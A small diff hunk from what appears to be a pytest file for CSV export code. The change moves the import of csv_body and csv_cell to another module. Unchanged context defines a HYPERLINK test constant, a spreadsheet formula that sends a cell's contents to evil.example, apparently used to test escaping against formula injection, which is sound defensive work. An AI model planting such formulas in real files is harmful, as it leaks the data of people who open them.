@@ -9,7 +9,7 @@ import uuid
 import pytest
 
 from api.http.auth import create_token
-from api.resources.resource import csv_body, csv_cell
+from api.http.representations import csv_body, csv_cell
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")'
 
